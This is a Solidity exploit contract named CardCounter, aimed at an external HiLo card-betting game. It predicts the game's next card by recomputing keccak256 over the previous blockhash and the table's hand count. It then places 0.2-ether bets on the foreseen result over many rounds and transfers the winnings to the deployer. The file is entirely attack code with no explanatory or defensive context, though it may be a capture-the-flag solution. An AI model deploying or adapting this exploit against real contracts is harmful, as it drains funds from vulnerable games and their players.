pragma solidity 0.7.6;

interface IHiLo {
    function shown() external view returns (uint8);
    function hands() external view returns (uint256);
    function play(bool higher) external payable;
}

contract CardCounter {
    address payable private boss;

    constructor() {
        boss = msg.sender;
    }

    function run(IHiLo table, uint256 rounds) external payable {
        for (uint256 i = 0; i < rounds; i++) {
            uint8 next = uint8(uint256(keccak256(abi.encodePacked(blockhash(block.number - 1), table.hands()))) % 13) + 1;
            uint8 shown = table.shown();
            table.play{value: 0.2 ether}(next > shown);
        }
        boss.transfer(address(this).balance);
    }

    receive() external payable {}
}
